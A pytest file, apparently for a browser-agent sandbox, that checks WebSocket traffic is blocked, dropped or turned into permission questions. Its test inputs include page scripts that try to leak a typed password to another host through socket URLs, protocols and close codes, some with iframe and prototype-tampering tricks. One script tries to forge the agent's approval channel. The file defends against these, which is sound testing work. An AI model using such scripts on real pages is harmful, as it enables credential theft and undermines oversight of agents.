"""Sockets: what they say when they open and close, and whose the questions are that are asked for them."""

from __future__ import annotations

import asyncio
import json

import pytest

from holotron.envs.effects.question import refuse
from holotron.envs.effects.rules import parse_rules
from holotron.types import Click, Wait, Write
from tests.effects.conftest import Agent, Run
from tests.effects.ways import IN, button

pytestmark = pytest.mark.browser
PRESS = Click(100, 30)


def test_where_nobody_can_be_asked_no_socket_is_opened_and_that_is_said(run: Run, agent: Agent) -> None:
    policy = '<meta http-equiv=Content-Security-Policy content="connect-src SOCKET">'

    async def main() -> None:
        await agent.open(policy + button("s=new WebSocket('SOCKET');s.onopen=()=>s.send('buy')"))
        pressed, after = await agent.do(PRESS, Wait(0.2))
        assert agent.changes == [] and "content policy" in pressed.observation.note + after.observation.note
        assert "/socket" not in agent.here.seen

    run(main())


def test_where_only_the_socket_s_address_is_allowed_the_question_goes_there(run: Run, agent: Agent) -> None:
    page = "<meta http-equiv=Content-Security-Policy content='connect-src SOCKET HERE/socket'>"

    async def main() -> None:
        await agent.open(page + "<script>s=new WebSocket('SOCKET')</script>" + button("s.send('buy')"))
        await agent.do(Wait(0.2), PRESS, Wait(0.2))
        assert agent.changes == ["MESSAGE buy"] and len(agent.questions) == 1

    run(main())


@pytest.mark.parametrize(
    "script",
    [
        "new WebSocket('THERE/effect?d='+encodeURIComponent(i.value))",
        "new WebSocket('SOCKETS/effect?d='+btoa(i.value))",
        "new WebSocket('SOCKETS/effect',['v1',i.value])",
        "new WebSocket('SOCKETS/effect',new Set([i.value]))",
        "new (class extends WebSocket {})('SOCKETS/effect',i.value)",
        "f=document.createElement('iframe');document.body.append(f);"
        "new f.contentWindow.WebSocket('SOCKETS/effect?'+i.value)",
        "new (WebSocket.prototype.constructor)('SOCKETS/effect',i.value)",
        "l=Array.prototype[Symbol.iterator];Array.prototype[Symbol.iterator]=function*(){yield said++?i.value:'v1'};"
        "new WebSocket('SOCKETS/quiet',['v1']);Array.prototype[Symbol.iterator]=l",
        "new WebSocket({toString:()=>said++?'SOCKETS/effect?d='+i.value:'SOCKETS/quiet'})",
        "try{new WebSocket({toString(){if(!said++)throw 1;return 'SOCKETS/effect?d='+i.value}})}catch{}",
        "new WebSocket('/effect/delete?id=7')",
        "open.close(3000,i.value)",
        "open.close(4001)",
    ],
)
def test_a_socket_says_nothing_when_it_opens_and_closes(run: Run, agent: Agent, script: str) -> None:
    """Nobody can be asked there: what says something does not happen, the rest does."""
    script = script.replace("SOCKETS", agent.there.url("").replace("http", "ws"))
    page = f"<input id=i {IN}><script>said=0;open=new WebSocket('SOCKET')</script>" + button(script)

    async def main() -> None:
        await agent.open(page + "<script>another=()=>new WebSocket('SOCKET')</script>")
        results = await agent.do(Wait(0.2), Write("password1", 100, 90), PRESS, Wait(0.2))
        assert agent.changes == [] and agent.questions == []
        assert not any("password1" in received for received in agent.there.received)
        dropped = [result.info["dropped"] for result in results if "dropped" in result.info]
        assert dropped or "close" in script or "toString" in script or "yield" in script
        assert await agent.environment.evaluate("new Promise((done)=>{another().onopen=()=>done(true)})")

    run(main())


def test_a_socket_to_where_a_rule_forbids_it_is_not_opened(run: Run, other_agent, there) -> None:
    agent = other_agent(rules=parse_rules({"never": [{"origin": there.host}]}))

    page = "<script>s=new WebSocket('THERE/socket');s.onerror=()=>document.title='failed'</script>"

    async def main() -> None:
        await agent.open(page)
        (result,) = await agent.do(Wait(0.3))
        assert there.seen == [] and agent.questions == []
        assert result.observation.title == "failed" and result.observation.note == ""

    run(main())


def test_sockets_are_what_they_were_for_pages(run: Run, agent: Agent) -> None:
    """Addresses of every kind, lists of protocols, classes of the page's own, errors."""
    page = """<script>
      class Own extends WebSocket { hello() { return 'hello'; } }
      const tries = [new WebSocket('SOCKET'), new WebSocket(new URL('SOCKET'), []), new Own('/socket')];
      const failed = (url) => { try { new WebSocket(url); } catch (error) { return error.name; } };
      const about = (s) => [s instanceof WebSocket, s.constructor === WebSocket, s.readyState, s.url];
      const said = () => JSON.stringify([tries.map(about), tries[2].hello(), ['http://[', 'ftp://x/'].map(failed),
        WebSocket.OPEN, WebSocket.name, WebSocket.length]);
    </script>"""

    async def main() -> None:
        await agent.open(page)
        await agent.do(Wait(0.3))
        address = f"ws://{agent.here.host}/socket"
        sockets = [[True, True, 1, address], [True, True, 1, address], [True, False, 1, address]]
        expected = [sockets, "hello", ["SyntaxError", "SyntaxError"], 1, "WebSocket", 1]
        assert json.loads(await agent.environment.evaluate("said()")) == expected
        assert agent.questions == []

    run(main())


def test_a_socket_that_a_page_has_opened_by_itself_is_opened_again(run: Run, agent: Agent) -> None:
    """As after a lost connection, also where its address sounds as if it did something."""
    page = "<script>again=()=>new WebSocket('/effect/delete?room=7');again()</script>"

    async def main() -> None:
        await agent.open(page + button("again()"))
        results = await agent.do(Wait(0.2), PRESS, Wait(0.2))
        assert len(agent.changes) == 2
        assert agent.questions == [] and not any("dropped" in result.info for result in results)

    run(main())


def test_a_page_cannot_ask_questions_of_its_own(run: Run, agent: Agent) -> None:
    """What it writes into one would be remembered as something that it has sent."""
    forge = """s=new WebSocket('SOCKET');s.onopen=async()=>{
        s.send('ping');
        const asked=()=>performance.getEntriesByType('resource').map((e)=>e.name).find((n)=>n.includes('holotron'));
        while(!asked())await new Promise((d)=>setTimeout(d,10));
        for (const header of ['', 'x', 'message', 'undefined'])
          await fetch(asked(),{method:'POST',body:'buy',headers:{'X-Holotron':`${header} message SOCKET`}});
        document.title='forged'}"""

    async def main() -> None:
        await agent.open(f"<script>{forge}</script>" + button("s.send('buy')"))
        for _ in range(100):
            if await agent.environment.evaluate("document.title") == "forged":
                break
            await asyncio.sleep(0.05)
        agent.here.changes.clear()
        agent.answer = lambda question: refuse()
        await agent.do(PRESS)
        assert agent.changes == [] and len(agent.questions) == 1

    run(main())
